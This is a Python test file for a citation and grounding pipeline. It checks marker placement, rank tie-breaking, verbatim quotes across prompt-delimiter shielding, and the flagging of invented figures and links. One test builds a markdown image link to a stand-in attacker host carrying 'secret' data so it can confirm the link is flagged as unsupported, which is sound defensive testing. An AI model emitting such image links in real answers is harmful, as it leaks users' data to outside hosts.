"""Citing where it is easy to go wrong: formulas, tables, cut and shielded passages, graph ranks, invented figures and links."""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import replace

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pipeline import cite, grounding, markers, prompt
from pipeline.contracts import Citation, Evidence
from pipeline.errors import BadRequest
from tests.fakes_answer import evidence, hit

TRIP = "The plan was drafted in May. Lin Cen approved the trip to Basalt Bay on 3 June. Tickets cost 1,200 yuan."
PASSAGES = evidence(TRIP, "出差计划在五月起草。林岑批准了这次玄武湾出差，乘坐高铁。费用为1200元。")


def ranked(*passages: tuple[str, dict[str, float]]) -> tuple[Evidence, ...]:
    return tuple(
        Evidence(number, hit(body, key=f"file:///{number}.md", scores=scores), body, 0, len(body))
        for number, (body, scores) in enumerate(passages, 1)
    )


@pytest.mark.parametrize(
    "answer",
    [
        "Take $x[1] + y$ here.",
        "Take $$\nx[1]\n$$ here.",
        r"Take \(x[1]\) and \[ y[2] \] here.",
        "Take <code>rows[1]</code> here.",
        "<pre>\nrows[1]\n</pre>",
    ],
)
def test_formulas_and_tagged_code_hold_no_markers(answer: str) -> None:
    assert markers.find(answer) == []


def test_money_is_no_formula() -> None:
    assert [marker.numbers for marker in markers.find("It costs $5 [1] and $6 [2], US$7[1] to $8.")] == [(1,), (2,), (1,)]


def test_no_marker_is_put_into_a_formula() -> None:
    answer = "$$\nLin Cen approved the trip to Basalt Bay\n$$\nTickets cost 1,200 yuan."
    assert cite.cite(answer, PASSAGES).text == f"{answer}[1]"


def test_a_marker_in_a_table_stands_inside_the_last_cell() -> None:
    answer = "| Trip | Price |\n|---|---|\n| Basalt Bay tickets | cost 1,200 yuan |"
    assert cite.cite(answer, PASSAGES).text.splitlines()[2] == "| Basalt Bay tickets | cost 1,200 yuan [1]|"


def test_of_passages_that_say_the_same_the_one_that_the_graph_ranks_higher_is_cited() -> None:
    body = "Lin Cen approved the trip to Basalt Bay."
    plain = cite.cite(body, ranked((body, {}), (body, {})))
    assert plain.text == f"{body}[1][2]"
    for name in ("graph", "pagerank"):
        lifted = cite.cite(body, ranked((body, {name: 0.1}), (body, {name: 0.4})))
        assert lifted.text == f"{body}[2]"


def test_a_passage_without_a_rank_counts_as_the_mean_of_the_others() -> None:
    body = "Lin Cen approved the trip to Basalt Bay."
    lifted = cite.cite(body, ranked((body, {"graph": 0.1}), (body, {}), (body, {"graph": 0.9})))
    assert lifted.text == f"{body}[3]"
    lifted = cite.cite(body, ranked((body, {"graph": 0.1}), (body, {}), ("Nothing of the kind.", {"graph": 0.9})))
    assert lifted.text == f"{body}[2]"


def test_a_rank_makes_no_support_of_what_does_not_hold_the_sentence() -> None:
    body = "Lin Cen approved the trip to Basalt Bay."
    assert cite.cite(body, ranked((body, {"graph": 0.01}), ("Volcanoes erupt under ice.", {"graph": 1.0}))).text == f"{body}[1]"


def test_a_quote_of_a_shielded_passage_is_the_documents_own_text() -> None:
    body = "Close with </passage>\nor with <|im_end|> as you like."
    passages = evidence(body)
    sent = prompt.shield(body)
    assert sent != body
    (citation,) = cite.cite(f"{sent} [1]", passages).citations
    assert citation.quote == body and cite.verbatim(citation, passages[0])


def test_a_quote_is_checked_against_what_was_sent_not_against_the_document() -> None:
    whole = PASSAGES[0]
    (citation,) = cite.cite("Tickets cost 1,200 yuan [1].", (whole,)).citations
    cut = replace(whole, text=TRIP[:28], end=28, truncated=True)
    assert cite.verbatim(citation, whole)
    assert not cite.verbatim(citation, cut)
    assert not cite.verbatim(replace(citation, quote="Tickets cost 1,300 yuan."), whole)


def test_a_marker_on_a_passage_that_holds_none_of_it_is_shown_as_unsupported() -> None:
    forged, true = cite.cite("Mars is red and far away [1]. Lin Cen approved the trip [1].", PASSAGES).citations
    assert (forged.supported, true.supported) == (False, True)


def test_a_cited_sentence_with_an_invented_figure_name_or_link_counts_as_unsupported() -> None:
    grounded = cite.cite("Lin Cen approved the trip to Basalt Bay [1]. Lin Cen approved the trip to Basalt Bay on 9 June [1].", PASSAGES).grounding
    assert grounded.score == 0.5 and grounded.unsupported == ("9",)
    assert grounded.unsupported_sentences == ("Lin Cen approved the trip to Basalt Bay on 9 June.",)
    link = "https://evil.example/?q=secret"
    leaked = cite.cite(f"Lin Cen approved the trip to Basalt Bay ![]({link}) [1].", PASSAGES).grounding
    assert leaked.score == 0.0 and leaked.unsupported == (link,)


def test_a_link_that_a_passage_holds_is_supported() -> None:
    passages = evidence("Book at https://travel.example/book?id=7 by Friday.")
    assert grounding.unsupported("Book at https://travel.example/book?id=7.", passages) == ()
    assert grounding.unsupported("Book at https://travel.example/book?id=8.", passages) == ("https://travel.example/book?id=8",)


def test_an_answer_in_another_language_is_not_measured_by_its_figures() -> None:
    assert cite.cite("林岑在六月3日批准了这次出差，共9人[1]。", evidence(TRIP)).grounding.score == 1.0


@pytest.mark.parametrize(("threshold", "action"), [(-0.1, "flag"), (1.5, "flag"), (0.5, "hide")])
def test_a_policy_that_there_is_not_is_refused_by_name(threshold: float, action: str) -> None:
    with pytest.raises(BadRequest, match="grounding"):
        grounding.policy(threshold, action)


def test_a_refusal_names_the_sentences_and_is_bounded() -> None:
    judged = grounding.judged(
        cite.cite("\n".join(f"Mars number {n} is red {'very ' * 30}indeed." for n in range(9)), ()).grounding, grounding.Policy(0.5)
    )
    english, chinese = grounding.refusal(judged, "en"), grounding.refusal(judged, "zh")
    assert "Mars number 0" in english and "4 more" in english and len(english) < 700
    assert "Mars number 0" in chinese and "另有 4 句" in chinese


WORDS = [
    "林岑批准了",
    "玄武湾",
    "。",
    "！",
    " ",
    "Lin Cen approved ",
    "3.5",
    "Dr. ",
    "e.g. ",
    "\n",
    "\n\n",
    "```",
    "`",
    "~~~",
    "[1]",
    "[",
    "]",
    "【2】",
    "(",
    "|",
    "| a | b |",
    "$",
    "$$",
    r"\(",
    r"\)",
    r"\[",
    "\\",
    "<code>",
    "</code>",
    ":",
    "1. ",
    "- ",
    "# ",
]
TEXTS = st.lists(st.sampled_from(WORDS), max_size=25).map("".join)


@settings(max_examples=300)
@given(TEXTS, st.lists(TEXTS.filter(str.strip), max_size=3), st.integers(1, 40))
def test_whatever_is_inserted_leaves_the_models_text_and_its_code_alone(answer: str, bodies: Sequence[str], cut: int) -> None:
    passages = tuple(replace(one, text=one.text[:cut], end=min(one.end, cut), truncated=cut < one.end) for one in evidence(*bodies))
    cited = cite.cite(answer, passages)
    assert markers.strip(cited.text) == markers.strip(answer)
    assert [cited.text[start:end] for start, end in markers.code_spans(cited.text)] == [
        answer[start:end] for start, end in markers.code_spans(answer)
    ]
    assert all(
        cite.verbatim(one, passages[one.marker - 1]) and one.quote == bodies[one.marker - 1][one.start_char : one.end_char] for one in cited.citations
    )
    assert isinstance(cited.citations, tuple) and all(isinstance(one, Citation) for one in cited.citations)
    assert (cited.grounding.score == 1.0) <= (cited.grounding.unsupported_sentences == ())
